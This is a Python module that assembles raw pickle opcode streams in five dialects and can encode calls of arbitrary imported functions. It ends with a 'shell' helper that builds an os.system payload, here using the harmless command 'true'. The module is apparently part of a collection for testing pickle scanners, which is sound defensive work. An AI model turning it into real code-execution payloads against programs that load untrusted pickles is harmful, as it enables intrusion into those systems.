"""A small assembler: expressions to pickle opcodes in several dialects. It never loads one."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Any

MARK, STOP = b"(", b"."
DIALECTS = ("text", "binary", "stack", "inst", "obj")


@dataclass(frozen=True)
class Name:
    """An imported name, `module` and `attribute` apart."""

    module: str
    attribute: str


@dataclass(frozen=True)
class Call:
    """`what(*arguments)`; `what` is any expression."""

    what: Any
    arguments: tuple[Any, ...]


@dataclass(frozen=True)
class Build:
    """`thing` with BUILD applied to `state`."""

    thing: Any
    state: Any


@dataclass(frozen=True)
class Put:
    """`thing[key] = value` by SETITEM."""

    thing: Any
    key: Any
    value: Any


@dataclass(frozen=True)
class Append:
    """`thing.append(value)` by APPEND."""

    thing: Any
    value: Any


@dataclass(frozen=True)
class Then:
    """Evaluate `first`, drop it, and give `second`."""

    first: Any
    second: Any


@dataclass(frozen=True)
class Raw:
    """Opcodes given as they are."""

    code: bytes


def name(dotted: str) -> Name:
    """`a.b.c` as module `a.b`, attribute `c`; `a:b.c` puts the cut at the colon."""
    module, _, attribute = dotted.partition(":") if ":" in dotted else dotted.rpartition(".")
    return Name(module, attribute)


def call(dotted: str, *arguments: Any) -> Call:
    """A call of an imported name."""
    return Call(name(dotted), arguments)


def short(text: str) -> bytes:
    """A string by SHORT_BINUNICODE or BINUNICODE."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def _text_scalar(value: Any) -> bytes:
    if isinstance(value, bool):
        return b"I01\n" if value else b"I00\n"
    if isinstance(value, int):
        return b"I%d\n" % value if abs(value) < 1 << 31 else b"L%dL\n" % value
    if isinstance(value, float):
        return b"F" + repr(value).encode() + b"\n"
    return b"V" + value.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"


def _scalar(value: Any) -> bytes:
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        if 0 <= value < 256:
            return b"K" + bytes([value])
        if abs(value) < 1 << 31:
            return b"J" + struct.pack("<i", value)
        data = value.to_bytes(9, "little", signed=True)
        return b"\x8a\x09" + data
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    return short(value)


def expression(value: Any, dialect: str) -> bytes:
    """The opcodes that leave `value` on the stack."""

    def make(item: Any) -> bytes:
        return expression(item, dialect)

    if value is None:
        return b"N"
    if isinstance(value, Raw):
        return value.code
    if isinstance(value, bool | int | float | str):
        return _text_scalar(value) if dialect in ("text", "inst") else _scalar(value)
    if isinstance(value, bytes):
        if dialect in ("text", "inst"):
            return make(call("_codecs.encode", value.decode("latin-1"), "latin1"))
        head = (
            b"C" + bytes([len(value)]) if len(value) < 256 else b"B" + struct.pack("<I", len(value))
        )
        return head + value
    if isinstance(value, Name):
        if dialect == "stack":
            return short(value.module) + short(value.attribute) + b"\x93"
        return b"c" + value.module.encode() + b"\n" + value.attribute.encode() + b"\n"
    if isinstance(value, tuple):
        return MARK + b"".join(map(make, value)) + b"t"
    if isinstance(value, list):
        return b"]" + MARK + b"".join(map(make, value)) + b"e"
    if isinstance(value, dict):
        return b"}" + MARK + b"".join(make(k) + make(v) for k, v in value.items()) + b"u"
    if isinstance(value, Call):
        if value.arguments and isinstance(value.what, Name):
            inside = b"".join(map(make, value.arguments))
            if dialect == "inst":
                line = f"i{value.what.module}\n{value.what.attribute}\n"
                return MARK + inside + line.encode()
            if dialect == "obj":
                return MARK + make(value.what) + inside + b"o"
        return make(value.what) + make(tuple(value.arguments)) + b"R"
    if isinstance(value, Build):
        return make(value.thing) + make(value.state) + b"b"
    if isinstance(value, Put):
        return make(value.thing) + make(value.key) + make(value.value) + b"s"
    if isinstance(value, Append):
        return make(value.thing) + make(value.value) + b"a"
    if isinstance(value, Then):
        return make(value.first) + b"0" + make(value.second)
    raise TypeError(type(value))


def assemble(value: Any, dialect: str = "binary", protocol: int | None = None) -> bytes:
    """A whole pickle: PROTO where the dialect has one, the expression, STOP."""
    if protocol is None:
        protocol = {"text": 0, "inst": 0, "binary": 2, "obj": 2, "stack": 4}[dialect]
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    return head + expression(value, dialect) + STOP


def shell(dialect: str = "binary", protocol: int | None = None) -> bytes:
    """The harmless standing payload of the collection: `os.system("true")`."""
    return assemble(call("os.system", "true"), dialect, protocol)
